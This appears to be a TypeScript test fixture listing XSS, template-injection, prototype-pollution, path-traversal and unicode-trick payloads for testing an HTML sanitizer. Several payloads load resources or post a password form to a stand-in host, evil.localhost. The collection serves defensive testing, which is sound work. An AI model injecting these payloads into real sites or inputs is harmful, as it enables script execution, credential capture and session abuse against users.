/** Where payloads try to send something. Nobody listens there: the attempt is what tests look for. */
const EVIL = 'http://evil.localhost:9';
/** Set by a script of a payload. */
const RUN = 'globalThis.pwned=1';

/** Texts of an attacker, of each kind: elements, what breaks out of their contents and attributes, URLs, and templates. */
export const PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</title></textarea></noscript></select><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=${EVIL}/a.png>`,
  `<svg onload=${RUN}>`,
  `<math><a xlink:href="javascript:${RUN}">x`,
  `<input autofocus onfocus=${RUN}>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>">`,
  `<link rel=stylesheet href=${EVIL}/b.css>`,
  `<style>@import '${EVIL}/c.css';*{background:url(${EVIL}/d)}</style>`,
  `<base href="${EVIL}/">`,
  `<form action="${EVIL}/e"><input name=password><button>`,
  `<dialog open class=gate><form id=search name=body>`,
  `<x onclick=${RUN} id=app name=app>x</x>`,
  `" onmouseover="${RUN}" x="`,
  `javascript:${RUN}//`,
  '${globalThis.pwned=1}',
  '{{constructor.constructor("globalThis.pwned=1")()}}',
  '{count} {name} {0} %s %o <%= 1 %> #{1}',
  '__proto__',
  '../../../v1/api/auth/logout',
  '%2e%2e%2f%2e%2e%2flogout?x=1#y',
  '\u202egnp.exe\u202c \u2066x\u2069 \u0000\u0007\u001b[31m\u007f\u2028',
];
